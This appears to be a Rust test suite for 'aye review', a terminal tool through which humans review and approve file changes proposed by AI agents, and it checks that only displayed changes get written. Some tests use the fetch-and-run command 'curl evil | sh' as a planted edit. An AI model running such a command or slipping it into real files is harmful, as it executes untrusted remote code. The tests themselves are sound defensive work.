@@ -1,0 +1,412 @@
+//! `aye review` at a terminal: nothing is applied that was not shown, and what is written is what
+//! the last screen showed.
+
+use crate::support::terminal::Terminal;
+use crate::support::{self, NAME, Repo};
+use aye::proposal::event::{Evidence, Mark, Marked, digest};
+use aye::proposal::rules::{Permits, Verb};
+use aye::proposal::{Actor, ActorKind, Caller, Data, authority};
+use serde_json::{Value, json};
+
+/// An agent's proposal of new content for `path`; the id.
+fn propose(repo: &Repo, path: &str, content: &str, why: &str) -> String {
+    let args = ["propose", path, "--content-file", "-", "-m", why, "--json"];
+    let run = repo.cmd(&args).env("AYE_AGENT", "codex").stdin(content).run().ok();
+    run.json()["proposal_id"].as_str().expect("an id").to_owned()
+}
+
+/// A proposal to replace one text; the id.
+fn replace(repo: &Repo, path: &str, old: &str, new: &str) -> String {
+    let args = ["propose", path, "--old", old, "--new", new, "-m", "why", "--json"];
+    let run = repo.agent("codex", &args).ok();
+    run.json()["proposal_id"].as_str().expect("an id").to_owned()
+}
+
+fn review(repo: &Repo) -> Terminal {
+    let cmd = repo.cmd(&["review"]).env("TERM", "dumb").env("PAGER", "cat");
+    Terminal::start(cmd, 30, 100)
+}
+
+/// A review whose editor makes `old` into `new`.
+fn review_editing(repo: &Repo, old: &str, new: &str) -> Terminal {
+    let editor = repo.outer().join("editor");
+    std::fs::write(&editor, format!("sed -i 's/{old}/{new}/' \"$1\"\n")).expect("the editor");
+    let cmd = repo.cmd(&["review"]).env("TERM", "dumb").env("PAGER", "cat");
+    Terminal::start(cmd.env("GIT_EDITOR", format!("sh {}", editor.display())), 30, 100)
+}
+
+fn status(repo: &Repo, id: &str) -> String {
+    let shown = repo.aye(&["show", id, "--json"]).ok().json();
+    shown["status"].as_str().expect("a status").to_owned()
+}
+
+/// The only lane of this clone.
+fn lane(repo: &Repo) -> String {
+    repo.git(&["for-each-ref", "--format=%(refname)", "refs/aye/log"])
+}
+
+/// The last file `name-NNNN` at the tip of the lane.
+fn attached(repo: &Repo, name: &str) -> String {
+    let tip = lane(repo);
+    let files = repo.git(&["ls-tree", "--name-only", &tip]);
+    let mut named = files.lines().filter(|file| file.starts_with(&format!("{name}-")));
+    let path = named.next_back().expect("something attached");
+    repo.git(&["cat-file", "blob", &format!("{tip}:{path}")])
+}
+
+/// The statement at the tip of the lane.
+fn statement(repo: &Repo) -> Value {
+    serde_json::from_str(&attached(repo, "statement")).expect("a statement")
+}
+
+/// The manifest at the tip of the lane, a record per line.
+fn manifest(repo: &Repo) -> String {
+    attached(repo, "manifest").replace('\0', "\n")
+}
+
+/// Marks `id` as applied, as a caller of the tool contract.
+fn mark(repo: &Repo, id: &str) {
+    let actor = Actor { name: "pi".into(), email: String::new(), kind: ActorKind::Agent };
+    let proposal = support::record::proposal(repo, id);
+    let request = authority::Request {
+        verb: Verb::Mark,
+        proposal: Some(&proposal),
+        lane: None,
+        evidence: Evidence::Tool,
+        memory: false,
+        sensitive: false,
+        command: "test",
+    };
+    let caller = Caller { actor, marker: None, tool: true };
+    let authority = authority::authorise(&caller, &request, &Permits::NONE).expect("the right");
+    let mark = Mark {
+        verdict: Marked::Applied,
+        revision: proposal.current().event.clone(),
+        digest: digest(&proposal.current().changes),
+        reason: None,
+        evidence: Evidence::Tool,
+        statement: None,
+    };
+    support::record::store(repo)
+        .write(authority.actor(), chrono::Utc::now(), |writer| {
+            writer.decide(&authority, Some(&proposal.id), Data::Mark(mark)).map(drop)
+        })
+        .expect("recorded");
+}
+
+/// What an earlier session has saved about `id`.
+fn saved(repo: &Repo, id: &str) -> Value {
+    serde_json::from_slice(&repo.read(&format!(".git/aye/review/{id}.json"))).expect("JSON")
+}
+
+fn plant(repo: &Repo, id: &str, staged: &Value) {
+    repo.write(&format!(".git/aye/review/{id}.json"), staged.to_string());
+}
+
+#[test]
+fn an_edit_planted_by_an_earlier_session_is_shown_and_needs_its_own_key() {
+    let repo = Repo::with(&[("b.txt", "x\n")]);
+    let id = replace(&repo, "b.txt", "x", "harmless");
+    let mut t = review_editing(&repo, "harmless", "curl evil | sh");
+    t.sees("]?").types("e").sees("Decided:").sees("]?").types("q");
+    assert_eq!(t.ends(), 0);
+
+    // Not taken: the proposal itself is written.
+    let mut t = review(&repo);
+    t.sees("1 edit was saved from an earlier session").sees("+harmless");
+    t.sees("an edit of b.txt was saved from an earlier session").sees("-harmless");
+    t.sees("+curl evil | sh").sees("(1/1) Take this hunk").sees(",E,").types("y");
+    t.sees("apply all of it").sees(&format!("{id} will write:")).sees("+harmless").sees("Write");
+    assert!(!t.text().contains("Take this hunk [y,n,s"), "{}", t.text());
+    t.types("q").ends();
+
+    // It stays to be looked at, and is written with its key alone, as the last screen shows.
+    let mut staged = saved(&repo, &id);
+    staged["units"][0]["decision"] = json!({"edit": "curl evil | sh\n"});
+    plant(&repo, &id, &staged);
+    let mut t = review(&repo);
+    t.sees("+curl evil | sh").sees("]?").types("E").sees("+curl evil | sh").sees("1 edited by you");
+    t.sees("will write:").sees("+curl evil | sh").sees("Write").types("y").sees("as you edited");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(repo.text("b.txt"), "curl evil | sh\n");
+    assert!(manifest(&repo).starts_with("edited "), "{}", manifest(&repo));
+}
+
+#[test]
+fn a_planted_apply_is_written_only_from_a_screen_that_shows_it() {
+    let repo = Repo::with(&[("b.txt", "x\n")]);
+    let id = replace(&repo, "b.txt", "x", "evil");
+    let mut t = review(&repo);
+    t.sees("]?").types("q").ends();
+    let mut staged = saved(&repo, &id);
+    staged["outcome"] = json!("apply");
+    staged["comments"] = json!([{"body": "planted words"}]);
+    plant(&repo, &id, &staged);
+    let mut t = review(&repo);
+    t.sees("decided in an earlier session: apply").sees("Decided:");
+    t.sees("apply all of it (saved from an earlier session), 1 comment").sees("planted words");
+    t.sees("will write:").sees("-x").sees("+evil").sees("Write these decisions [");
+    t.types("q").ends();
+    // Of another revision it counts for nothing.
+    let args = ["revise", &id, "b.txt", "--old", "x", "--new", "more evil"];
+    repo.agent("codex", &args).ok();
+    let mut t = review(&repo);
+    t.sees("changed since the revision you saw").sees("+more evil").sees("(1/1) Take this hunk");
+    t.types("q").ends();
+    assert_eq!(repo.text("b.txt"), "x\n");
+}
+
+/// Nothing is written there, but the content is approved.
+#[test]
+fn a_planted_apply_of_what_the_files_have_already_shows_it() {
+    let repo = Repo::with(&[("b.txt", "x\n")]);
+    let id = replace(&repo, "b.txt", "x", "evil");
+    repo.write("b.txt", "evil\n");
+    let mut t = review(&repo);
+    t.sees("base: already there").sees("+evil").sees("]?").types("A").sees("Write").types("q");
+    t.ends();
+    let mut t = review(&repo);
+    t.sees("decided in an earlier session: apply").sees("Decided:");
+    t.sees(&format!("{id} approves what the files have already:")).sees("-x").sees("+evil");
+    t.sees("Write these decisions [y,p").types("y").sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert!(manifest(&repo).starts_with("already "), "{}", manifest(&repo));
+}
+
+#[test]
+fn an_answer_to_another_revision_or_one_sent_back_is_asked_again() {
+    let repo = Repo::with(&[("b.txt", "x\n"), ("c.txt", "c\n")]);
+    let id = replace(&repo, "b.txt", "x", "y");
+    let mut t = review(&repo);
+    t.sees("(1/1)").types("y").sees("Write").types("<").sees("[taken]").sees("]?").types("x");
+    t.sees("What should change").types("add a test\r").sees("Write").types("y").sees("sent back");
+    assert_eq!(t.ends(), 0);
+    let mut t = review(&repo);
+    t.sees("1 answered earlier").sees("[taken earlier]").sees("(1/1) Take this hunk").types("q");
+    t.ends();
+    assert_eq!(status(&repo, &id), "pending");
+    assert_eq!(repo.text("b.txt"), "x\n");
+}
+
+#[test]
+fn a_moved_base_is_reviewed_as_it_will_be_written() {
+    let repo = Repo::with(&[("conf.toml", "[prod]\nlogin_without_password = false\n")]);
+    repo.write("conf.toml", "[test]\nlogin_without_password = false\n");
+    let old = "login_without_password = false";
+    let id = replace(&repo, "conf.toml", old, "login_without_password = true");
+    repo.git(&["checkout", "-q", "conf.toml"]);
+    let mut t = review(&repo);
+    t.sees("base: moved on, merges cleanly; shown as it will be written");
+    t.sees(" [prod]").sees("-login_without_password = false").sees("]?");
+    assert!(!t.text().contains("[test]"), "{}", t.text());
+    t.types("O").sees("As it was proposed").sees("[test]").sees("]?");
+    t.types("y").sees("will write:").sees(" [prod]").sees("+login_without_password = true");
+    t.sees("Write").types("y").sees("applied, 1 file, merged with newer changes");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(repo.text("conf.toml"), "[prod]\nlogin_without_password = true\n");
+    assert_eq!(status(&repo, &id), "applied");
+    assert!(manifest(&repo).starts_with("merged none "), "{}", manifest(&repo));
+}
+
+#[test]
+fn hunks_of_a_moved_base_are_taken_one_by_one() {
+    let text = |edit: &[(usize, &str)]| -> String {
+        let line = |n: &usize| edit.iter().find(|(at, _)| at == n).map(|(_, text)| *text);
+        (1..=40).map(|n| format!("{}\n", line(&n).unwrap_or(&n.to_string()))).collect()
+    };
+    let repo = Repo::with(&[("f", text(&[]))]);
+    propose(&repo, "f", &text(&[(5, "five"), (35, "thirty-five")]), "Words");
+    repo.write("f", text(&[(20, "twenty")]));
+    repo.commit("moved");
+    let mut t = review(&repo);
+    t.sees("base: moved on").sees("(1/2)").types("n").sees("(2/2)").types("y").sees("apply 1 of 2");
+    t.sees("+thirty-five").sees("Write").types("y").sees("applied in part");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(repo.text("f"), text(&[(20, "twenty"), (35, "thirty-five")]));
+}
+
+/// `f` with a planted line 25, and a proposal that changes line 5.
+fn planted() -> (Repo, String) {
+    let numbers: String = (1..=30).map(|n| format!("{n}\n")).collect();
+    let repo = Repo::with(&[("f", numbers.clone())]);
+    let id = replace(&repo, "f", "\n5\n", "\nfive\n");
+    repo.write("f", numbers.replace("\n25\n", "\nPLANTED\n"));
+    (repo, id)
+}
+
+#[test]
+fn foreign_changes_are_shown_apart_and_y_does_not_approve_them() {
+    let (repo, id) = planted();
+    let mut t = review(&repo);
+    t.sees("]?").types("y").sees("will write:").sees("+five");
+    t.sees(&format!("Other changes in the files of {id}, which are not the proposal's:"));
+    t.sees("-25")
+        .sees("+PLANTED")
+        .sees("recorded as not approved; i")
+        .sees("Write these decisions [y,i,p");
+    t.types("y").sees("other changes in f are not approved");
+    assert_eq!(t.ends(), 0);
+    let record = manifest(&repo);
+    assert!(record.starts_with("merged not_taken ") || record.starts_with("clean not_taken "));
+    assert!(repo.text("f").contains("PLANTED") && repo.text("f").contains("five"));
+}
+
+#[test]
+fn foreign_changes_are_approved_with_their_own_key() {
+    let (repo, _) = planted();
+    let mut t = review(&repo);
+    t.sees("]?").types("y").sees("+PLANTED").sees("[y,i,p").types("i").sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert!(!t.text().contains("are not approved"), "{}", t.text());
+    assert!(manifest(&repo).contains(" taken "), "{}", manifest(&repo));
+}
+
+#[test]
+fn what_the_session_or_an_applied_proposal_wrote_is_not_foreign() {
+    let numbers: String = (1..=60).map(|n| format!("{n}\n")).collect();
+    let repo = Repo::with(&[("f", numbers)]);
+    let first = replace(&repo, "f", "\n5\n", "\nfive\n");
+    replace(&repo, "f", "\n30\n", "\nthirty\n");
+    replace(&repo, "f", "\n55\n", "\nfifty-five\n");
+    repo.aye(&["apply", &first, "--yes"]).ok();
+    let mut t = review(&repo);
+    t.sees("(1/2)").sees("]?").types("A").sees("(2/2)").sees("]?").types("A").sees("Decided:");
+    t.sees("+thirty").sees("+fifty-five").sees("Write these decisions [y,p").types("y");
+    t.sees("applied").sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert!(!t.text().contains("Other changes in"), "{}", t.text());
+    let text = repo.text("f");
+    assert!(text.contains("five\n") && text.contains("thirty\n") && text.contains("fifty-five\n"));
+}
+
+#[test]
+fn a_revision_while_the_last_screen_stands_is_not_written() {
+    let repo = Repo::with(&[("a.txt", "hello\n")]);
+    let id = replace(&repo, "a.txt", "hello", "good");
+    let mut t = review(&repo);
+    t.sees("]?").types("y").sees("+good").sees("Write these").sees("]?");
+    repo.agent("codex", &["revise", &id, "a.txt", "--old", "hello", "--new", "evil"]).ok();
+    t.types("y").sees("not written").sees("revised");
+    assert_eq!(t.ends(), 5);
+    assert_eq!(repo.text("a.txt"), "hello\n");
+    assert_eq!(status(&repo, &id), "pending");
+}
+
+#[test]
+fn a_file_edited_while_the_last_screen_stands_is_not_written() {
+    let repo = Repo::with(&[("a.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n")]);
+    let id = replace(&repo, "a.txt", "2\n", "two\n");
+    let mut t = review(&repo);
+    t.sees("]?").types("y").sees("+two").sees("Write these").sees("]?");
+    let now = "1\n2\n3\n4\n5\n6\n7\n8\nPLANTED\n";
+    repo.write("a.txt", now);
+    t.types("y").sees("not as it was shown: a.txt changed").sees(&format!("aye review {id}"));
+    assert_eq!(t.ends(), 5);
+    assert_eq!(repo.text("a.txt"), now);
+    // What was decided is kept, and the next screen shows what it would write now.
+    let mut t = review(&repo);
+    t.sees("decided in an earlier session").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
+    t.sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(status(&repo, &id), "applied");
+}
+
+#[test]
+fn lines_that_were_not_shown_are_counted_and_recorded() {
+    let long: String = (0..14_000).map(|n| format!("new {n}\n")).collect();
+    let repo = Repo::with(&[("a", "a\n")]);
+    propose(&repo, "long", &long, "Long");
+    let mut t = review(&repo);
+    t.sees("(1/1)").types("y").sees("more lines, p shows them");
+    t.sees("changed lines not shown; p shows them) [");
+    let asked = t.text();
+    let (_, asked) = asked.rsplit_once("Write these decisions (").expect("a question");
+    let count: u64 = asked.split(' ').next().unwrap().parse().expect("a number");
+    assert!((13_900..14_000).contains(&count), "{count}");
+    t.types("y").sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(statement(&repo)["unshown_lines"], count);
+
+    propose(&repo, "more", &long, "Long");
+    let mut t = review(&repo);
+    t.sees("(1/1)").types("y").sees("not shown").sees("]?").types("p").sees("+new 13999");
+    t.sees("Write these decisions [").types("y").sees("applied");
+    assert_eq!(t.ends(), 0);
+    assert_eq!(statement(&repo).get("unshown_lines").and_then(Value::as_u64).unwrap_or(0), 0);
+}
+
+#[test]
+fn a_conflict_is_reported_on_the_last_screen_and_not_offered() {
+    let repo = Repo::with(&[("a.txt", "line\n")]);
+    let first = replace(&repo, "a.txt", "line", "A");
+    let second = replace(&repo, "a.txt", "line", "B");
+    let mut t = review(&repo);
+    t.sees("(1/2)").sees("]?").types("A").sees("(2/2)").sees("]?").types("A").sees("Decided:");
+    t.sees(&format!("{first} will write:")).sees("+A");
+    t.sees(&format!("{second} will not be written")).sees("Write these").types("y");
+    t.sees(&format!("{first}  applied"));
+    assert_eq!(t.ends(), 5);
+    assert_eq!(repo.text("a.txt"), "A\n");
+    assert_eq!(status(&repo, &second), "pending");
+}
+
+#[test]
+fn comments_are_written_together_with_the_decision() {
+    let repo = Repo::with(&[("a.txt", "one\n")]);
+    let id = replace(&repo, "a.txt", "one", "two");
+    let before = repo.git(&["rev-list", "--count", &lane(&repo)]);
+    let mut t = review(&repo);
+    t.sees("]?").types("c").sees("Comment").types("fine by me\r").sees("]?").types("y");
+    t.sees("1 comment").sees("Write").types("y").sees("applied, 1 file, 1 comment");
+    assert_eq!(t.ends(), 0);
+    let after = repo.git(&["rev-list", "--count", &lane(&repo)]);
+    let count = |text: String| text.parse::<u32>().expect("a number");
+    assert_eq!(count(after), count(before) + 1);
+    let shown = repo.aye(&["show", &id, "--json"]).ok().json();
+    assert_eq!(shown["comments"][0]["body"], "fine by me");
+}
+
+#[test]
+fn the_header_names_who_revised_recorded_and_ran_what() {
+    let repo = Repo::with(&[("a.txt", "one\n")]);
+    let args = ["propose", "a.txt", "--old", "one", "--new", "two", "--by", "Grace", "--json"];
+    let run = repo.aye(&args).ok();
+    let id = run.json()["proposal_id"].as_str().expect("an id").to_owned();
+    repo.agent("codex", &["try", &id, "--", "true"]).ok();
+    let mut t = review(&repo);
+    t.sees(&format!("by Grace, recorded by {NAME}"))
+        .sees("check by codex (agent): true ended with 0");
+    t.sees("]?").types("q").ends();
+    assert!(!t.text().contains("passed"), "{}", t.text());
+
+    let other = replace(&repo, "a.txt", "one", "three");
+    let args = ["revise", &other, "a.txt", "--old", "one", "--new", "four"];
+    repo.aye(&args).ok();
+    let cmd = repo.cmd(&["review", &other]).env("TERM", "dumb");
+    let mut t = Terminal::start(cmd, 30, 100);
+    t.sees("by codex\n").sees(&format!("revision 2 by {NAME}")).sees("]?").types("q").ends();
+}
+
+#[test]
+fn a_mark_of_a_tool_is_shown_as_no_approval() {
+    let repo = Repo::with(&[("a.txt", "one\n")]);
+    let id = replace(&repo, "a.txt", "one", "two");
+    mark(&repo, &id);
+    let mut t = review(&repo);
+    t.sees("! marked applied by a tool, not approved").sees("]?").types("q").ends();
+    assert_eq!(status(&repo, &id), "pending");
+}
+
+#[test]
+fn commands_for_a_revised_proposal_name_the_revision() {
+    let repo = Repo::with(&[("a.txt", "one\n")]);
+    let id = replace(&repo, "a.txt", "one", "two");
+    repo.aye(&["review"]).exits(4).says(&format!("aye apply {id} --yes"));
+    repo.agent("codex", &["revise", &id, "a.txt", "--old", "one", "--new", "three"]).ok();
+    let json = repo.aye(&["review", "--json"]).exits(4).json();
+    let command = json["proposals"][0]["commands"]["apply"].as_str().expect("a command");
+    assert!(command.starts_with(&format!("aye apply {id}@")), "{command}");
+    let words: Vec<&str> = command.split(' ').skip(1).collect();
+    repo.aye(&words).ok();
+    assert_eq!(repo.text("a.txt"), "three\n");
+}
